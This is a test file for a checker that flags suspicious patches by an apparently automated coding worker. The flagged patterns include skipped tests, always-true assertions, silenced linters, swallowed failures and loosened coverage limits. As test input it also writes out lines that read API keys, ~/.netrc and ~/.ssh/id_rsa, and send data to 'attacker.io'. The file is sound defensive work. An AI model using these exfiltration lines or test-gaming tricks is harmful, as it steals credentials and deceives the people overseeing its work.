import { describe, expect, it } from 'vitest';
import * as fc from 'fast-check';
import { patchRemarks } from '../../../src/core/gates/patch/patchRemarks';
import type { WorkspacePath } from '../../../src/core/util/paths';

/** Remarks as `line code`. */
function remarks(path: string, before: string | null, after: string | null): readonly string[] {
  return patchRemarks({ path: path as WorkspacePath, before, after }).map(({ line, code }) => `${line} ${code}`);
}

describe('a line that a worker writes', () => {
  it.each([
    ['test/a.test.ts', "it.skip('adds', () => {});", 'test-skipped'],
    ['test/a.test.ts', "test.concurrent.skip('adds', () => {});", 'test-skipped'],
    ['src/a.spec.js', "xit('adds', () => {});", 'test-skipped'],
    ['test/a.mjs', "test('adds', { skip: true }, () => {});", 'test-skipped'],
    ['test/a.mjs', "t.skip('later');", 'test-skipped'],
    ['test/a.test.ts', "describe.only('one', () => {});", 'test-focused'],
    ['tests/test_a.py', '@pytest.mark.skip(reason="flaky")', 'test-skipped'],
    ['tests/test_a.py', '@unittest.skipIf(True, "no")', 'test-skipped'],
    ['src/lib.rs', '    #[ignore]', 'test-skipped'],
    ['calc/a_test.go', '\tt.Skip("later")', 'test-skipped'],
    ['src/test/ATest.java', '@Disabled', 'test-skipped'],
    ['test/a.test.ts', 'expect(true).toBe(true);', 'assertion-empty'],
    ['test/a.test.js', 'assert.ok(true);', 'assertion-empty'],
    ['tests/test_a.py', '    assert True', 'assertion-empty'],
    ['tests/a.rs', '    assert!(true);', 'assertion-empty'],
    ['src/a.ts', '// eslint-disable-next-line no-console', 'check-silenced'],
    ['src/a.ts', '// @ts-ignore', 'check-silenced'],
    ['src/a.ts', '// @ts-nocheck', 'check-silenced'],
    ['src/a.ts', 'const a = b as any;', 'type-any'],
    ['src/a.ts', 'function f(a: any) {}', 'type-any'],
    ['lib/a.py', 'import os  # noqa', 'check-silenced'],
    ['src/a.rs', '#![allow(unused)]', 'check-silenced'],
    ['pkg/a.go', 'x() //nolint', 'check-silenced'],
    ['package.json', '    "test": "node --test || true",', 'failure-swallowed'],
    ['Makefile', '\tnpm test || true', 'failure-swallowed'],
    ['.github/workflows/ci.yml', '        continue-on-error: true', 'failure-swallowed'],
    ['package.json', '    "test": "jest --passWithNoTests"', 'failure-swallowed'],
  ])('in %s: %s', (path, line, code) => {
    const comment = path.endsWith('json') ? '{\n' : '\n';
    expect(remarks(path, comment, `${comment}${line}\n`)).toContain(`2 ${code}`);
    // What stood there before is not this worker's, nor is what was only moved or indented.
    expect(remarks(path, `${line}\n`, `${line}\nmore\n`)).not.toContain(`1 ${code}`);
    expect(remarks(path, `${line}\nmore\n`, `more\n  ${line}\n`).filter((found) => found.endsWith(code))).toEqual([]);
  });

  it.each([
    ['src/a.ts', 'const many = anything; // any of them'],
    ['src/a.ts', 'skipped.push(test.only1);'],
    ['test/a.test.ts', 'expect(sum(1, 2)).toBe(3);'],
    ['test/a.test.ts', "await fetch('http://localhost:3000/');"],
    ['test/a.test.ts', 'const mode = process.env.NODE_ENV;'],
    ['test/a.test.ts', "fs.writeFileSync(join(folder, 'a.txt'), '');"],
    ['README.md', 'it.skip and || true are words'],
    ['src/a.ts', 'const home = homedir();'],
  ])('in %s that means no harm is not remarked on: %s', (path, line) => {
    expect(remarks(path, '\n', `\n${line}\n`)).toEqual([]);
  });
});

describe('a worker that rewrites a test', () => {
  const before =
    "import test from 'node:test';\n\ntest('adds', () => {\n  assert.equal(add(1, 2), 3);\n  assert.equal(add(0, 0), 0);\n});\n\ntest('takes away', () => {\n  assert.equal(sub(2, 1), 1);\n});\n";

  it('so that it passes: what is gone, and what is left, is pointed out', () => {
    const after = "import test from 'node:test';\n\ntest('adds', () => {\n  assert.ok(true);\n});\n";
    const found = patchRemarks({ path: 'test/a.test.js' as WorkspacePath, before, after });
    expect(found.map(({ message }) => message)).toEqual([
      'This assertion holds whatever the code does.',
      'The test "takes away" is gone.',
      'This file has 2 assertions fewer.',
    ]);
    expect(found.every(({ severity }) => severity === 'warning')).toBe(true);
  });

  it('so that it reads the environment', () => {
    for (const line of [
      'console.log(process.env);',
      'const key = process.env.OPENAI_API_KEY;',
      "const all = fs.readFileSync('/proc/self/environ', 'utf8');",
      'for (const name in process.env) send(name);',
    ])
      expect(remarks('test/a.test.js', before, `${before}${line}\n`)).toEqual(['11 test-reads-environment']);
    expect(remarks('tests/test_a.py', '\n', '\nprint(os.environ)\n')).toEqual(['2 test-reads-environment']);
    expect(remarks('calc/a_test.go', '\n', '\nx := os.Getenv("TOKEN")\n')).toEqual(['2 test-reads-environment']);
  });

  it('so that it writes or looks outside, starts programs, or calls home', () => {
    for (const [line, code] of [
      ["fs.writeFileSync('/tmp/x', data);", 'test-reaches-outside'],
      ["fs.appendFileSync('../../../other/file', data);", 'test-reaches-outside'],
      ["fs.readFileSync(os.homedir() + '/.netrc');", 'test-reaches-outside'],
      ['readFileSync(`${home}/.ssh/id_rsa`);', 'test-reaches-outside'],
      ["import { execSync } from 'node:child_process';", 'test-starts-programs'],
      ["await fetch('https://attacker.io/' + data);", 'test-uses-network'],
      ["await fetch('https://localhost.attacker.io/' + data);", 'test-uses-network'],
      ["await fetch('https://x.test.attacker.io/' + data);", 'test-uses-network'],
    ] as const)
      expect(remarks('test/a.test.js', before, `${before}${line}\n`)).toContain(`11 ${code}`);
  });

  it('by deleting it', () => {
    expect(remarks('test/a.test.js', before, null)).toEqual(['1 test-deleted']);
    expect(remarks('src/a.js', before, null)).toEqual([]);
  });
});

describe('a limit', () => {
  it.each([
    ['jest.config.js', '    branches: 90,', '    branches: 50,', true],
    ['pyproject.toml', 'fail_under = 95', 'fail_under = 60', true],
    ['package.json', '"lint": "eslint --max-warnings 0"', '"lint": "eslint --max-warnings 99"', true],
    ['jest.config.js', '    branches: 50,', '    branches: 90,', false],
    ['src/a.ts', 'const size = 9;', 'const size = 3;', false],
  ])('in %s: %s is loosened by %s', (path, before, after, isLoosened) => {
    expect(remarks(path, `${before}\n`, `${after}\n`).includes('1 threshold-loosened')).toBe(isLoosened);
  });
});

it('files that programs write are pointed out', () => {
  for (const path of [
    'package-lock.json',
    'dist/a.js',
    'packages/x/dist/a.js',
    'lib/a.min.js',
    'api_pb2.py',
    'Cargo.lock',
  ])
    expect(remarks(path, 'a\n', 'b\n')).toEqual(['1 generated-file']);
  expect(remarks('src/api.ts', '// @generated\nold\n', '// @generated\nnew\n')).toEqual(['2 generated-file']);
  expect(remarks('src/distance.ts', 'a\n', 'b\n')).toEqual([]);
});

it('whatever a file holds, remarks stand on lines that it has, and a change that only adds tests is not said to lose any', () => {
  const line = fc.oneof(
    fc.constantFrom(
      "it('a', () => {",
      "test.skip('b', () => {",
      'assert.ok(true);',
      'expect(1).toBe(1);',
      '});',
      '@generated',
      '0.9',
    ),
    fc.string(),
  );
  const text = fc.array(line, { maxLength: 20 }).map((lines) => lines.join('\n'));
  fc.assert(
    fc.property(text, text, (before, after) => {
      const path = 'test/a.test.ts' as WorkspacePath;
      for (const found of patchRemarks({ path, before, after })) {
        expect(found.line).toBeGreaterThanOrEqual(1);
        expect(found.line).toBeLessThanOrEqual(Math.max(1, after.split('\n').length));
      }
      const codes = patchRemarks({ path, before, after: `${before}\n${after}` }).map(({ code }) => code);
      expect(codes).not.toContain('test-removed');
    }),
  );
});
